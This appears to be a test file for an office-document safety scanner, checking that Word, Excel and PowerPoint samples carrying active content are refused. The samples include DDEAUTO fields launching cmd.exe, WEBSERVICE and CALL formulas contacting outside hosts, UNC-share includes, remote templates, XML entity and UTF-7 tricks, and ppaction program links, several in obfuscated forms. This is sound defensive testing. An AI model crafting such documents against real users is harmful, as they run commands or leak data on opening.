import { randomBytes } from 'node:crypto';
import { docxOf } from '../../testing/documents';
import { judging } from '../../testing/judged';
import { fieldOf, pptxOf, xlsxOf } from '../../testing/office';

const judged = judging();
const wide = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

describe('what acts in a part is refused', () => {
  const refused: [string, 'docx' | 'xlsx' | 'pptx', () => Promise<Buffer>, RegExp][] = [
    [
      'a template in relations with another prefix',
      'docx',
      () =>
        docxOf(['x'], {
          'word/_rels/settings.xml.rels':
            '<p:Relationships xmlns:p="x"><p:Relationship Type="x/attachedTemplate" Target="http://a.cn" TargetMode="External"/></p:Relationships>',
        }),
      /模板/,
    ],
    [
      'macros under another type',
      'xlsx',
      () =>
        xlsxOf({
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        }),
      /宏/,
    ],
    [
      'macros in types written in signs',
      'docx',
      () =>
        docxOf(['x'], {
          '[Content_Types].xml': '<Types><Override ContentType="a.macro&#69;nabled.main"/></Types>',
        }),
      /宏/,
    ],
    [
      'definitions of its own',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        }),
      /DOCTYPE/,
    ],
    [
      'definitions in UTF-16',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': wide('<?xml version="1.0"?><!DOCTYPE a []><a/>') }),
      /DOCTYPE/,
    ],
    [
      'definitions in UTF-16 without a mark',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': Buffer.from('<?xml version="1.0"?><!DOCTYPE a []><a/>', 'utf16le'),
        }),
      /DOCTYPE/,
    ],
    [
      'definitions in an encoding that hides them',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE' }),
      /编码/,
    ],
    [
      'definitions in relations',
      'docx',
      () => docxOf(['x'], { 'word/_rels/document.xml.rels': '<!DOCTYPE a><Relationships/>' }),
      /DOCTYPE/,
    ],
    [
      'an element of many attributes in a part',
      'docx',
      () =>
        docxOf(['x'], {
          'word/styles.xml': `<a ${Array.from({ length: 1001 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
        }),
      /复杂/,
    ],
    [
      'a name without end in a part',
      'docx',
      () => docxOf(['x'], { 'word/styles.xml': `<a ${randomBytes(4_000_000).toString('base64url')}="1"/>` }),
      /复杂/,
    ],
    [
      'a field that starts a program',
      'docx',
      () => docxOf([fieldOf('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')]),
      /DDE/,
    ],
    ['a field in pieces', 'docx', () => docxOf([fieldOf(' DDEAUTO c:\\\\cmd.exe', 9)]), /DDE/],
    [
      'a field written by numbers',
      'docx',
      () =>
        docxOf([`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${fieldOf(' QUOTE 68 68 69 65 85 84 79')}`]),
      /DDE/,
    ],
    ['a simple field', 'docx', () => docxOf(['<w:fldSimple w:instr=" DDE cmd "/>']), /DDE/],
    [
      'a field with another prefix',
      'docx',
      () => docxOf(['<x:r><x:fldChar x:fldCharType="begin"/><x:instrText>DDE cmd</x:instrText></x:r>']),
      /DDE/,
    ],
    [
      'a field in a header',
      'docx',
      () => docxOf(['x'], { 'word/header1.xml': `<w:hdr>${fieldOf('DDE cmd')}</w:hdr>` }),
      /DDE/,
    ],
    [
      'a field that fetches from a share',
      'docx',
      () => docxOf([fieldOf('INCLUDETEXT "\\\\\\\\1.2.3.4\\\\a"')]),
      /网络/,
    ],
    [
      'a field that fetches from a share, behind a harmless one',
      'docx',
      () =>
        docxOf([
          fieldOf(' INCLUDEPICTURE "https://a.cn/x.png" '),
          fieldOf('INCLUDETEXT "\\\\\\\\1.2.3.4\\\\a"'),
        ]),
      /网络/,
    ],
    [
      'a page inside',
      'docx',
      () => docxOf(['x'], { 'word/afchunk.htm': '<html><script>x</script></html>' }),
      /网页/,
    ],
    [
      'a page of mails inside',
      'docx',
      () => docxOf(['x'], { 'word/afchunk.mht': 'MIME-Version: 1.0\n\nx' }),
      /网页/,
    ],
    ['RTF inside', 'docx', () => docxOf(['x'], { 'word/afchunk.rtf': '{\\rtf1\\objdata}' }), /OLE/],
    [
      'a picture with a script',
      'docx',
      () => docxOf(['x'], { 'word/media/image1.svg': '<svg xmlns="x"><script>x</script></svg>' }),
      /脚本/,
    ],
    [
      'a table that starts a program',
      'xlsx',
      () =>
        xlsxOf({
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      /DDE/,
    ],
    [
      'a table that fetches',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("http://a.cn/"&amp;A1)</f></c>' }),
      /公式/,
    ],
    [
      'a table that calls',
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': '<c><x:f>CALL("urlmon","x")</x:f></c>' }),
      /公式/,
    ],
    [
      'a query of the web',
      'xlsx',
      () =>
        xlsxOf({
          'xl/connections.xml':
            '<connections><connection><webPr url="http://a.cn"/></connection></connections>',
        }),
      /网络/,
    ],
    [
      'a query when it is opened',
      'xlsx',
      () => xlsxOf({ 'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>' }),
      /刷新/,
    ],
    ...(
      [
        ['a name', '<definedName name="a">WEBSERVICE("http://a.cn")</definedName>'],
        ['a rule of looks', '<cfRule><formula>WEBSERVICE("http://a.cn")</formula></cfRule>'],
        [
          'a rule of values',
          '<dataValidation><formula1>WEBSERVICE("http://a.cn")</formula1></dataValidation>',
        ],
        ['a column', '<calculatedColumnFormula>WEBSERVICE("http://a.cn")</calculatedColumnFormula>'],
        ['a formula around nothing', '<f>WEB<f></f>SERVICE("http://a.cn")</f>'],
        ['a picture', '<f>_xlfn.IMAGE("http://a.cn/a.png")</f>'],
      ] as const
    ).map(([what, part]): (typeof refused)[number] => [
      `a table that fetches by ${what}`,
      'xlsx',
      () => xlsxOf({ 'xl/worksheets/sheet1.xml': `<worksheet>${part}</worksheet>` }),
      /公式/,
    ]),
    ...(
      [
        ['a query', '<queryTable refreshOnLoad="1" connectionId="1"/>'],
        ['a connection every minute', '<connections><connection interval="1"/></connections>'],
        [
          'a summary',
          '<pivotCacheDefinition refreshOnLoad=" true "><cacheSource type="external"/></pivotCacheDefinition>',
        ],
      ] as const
    ).map(([what, part]): (typeof refused)[number] => [
      `a table that asks elsewhere by ${what}`,
      'xlsx',
      () => xlsxOf({ 'xl/parts/part1.xml': part }),
      /刷新/,
    ]),
    [
      'a letter with its data elsewhere',
      'docx',
      () =>
        docxOf(['x'], {
          'word/settings.xml':
            '<w:mailMerge><w:connectString w:val="Data Source=\\\\1.2.3.4\\a"/></w:mailMerge>',
        }),
      /邮件合并/,
    ],
    [
      'a drawing with its picture elsewhere',
      'docx',
      () => docxOf(['<v:imagedata src="http://a.cn/a.png"/>']),
      /网络上的图片/,
    ],
    [
      'slides that start a program behind a blank',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkClick action=" ppaction://program"/>' }),
      /程序/,
    ],
    ['sheets of macros', 'xlsx', () => xlsxOf({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /宏/],
    [
      'slides that start a program',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkClick action="ppaction://program"/>' }),
      /程序/,
    ],
    [
      'slides with a macro',
      'pptx',
      () => pptxOf({ 'ppt/slides/slide1.xml': '<a:hlinkHover action="ppaction://macro?name=x"/>' }),
      /程序/,
    ],
  ];
  test.each(refused)('%s', async (_, type, content, why) => {
    expect(await judged(type, await content())).toMatch(why);
  });
});
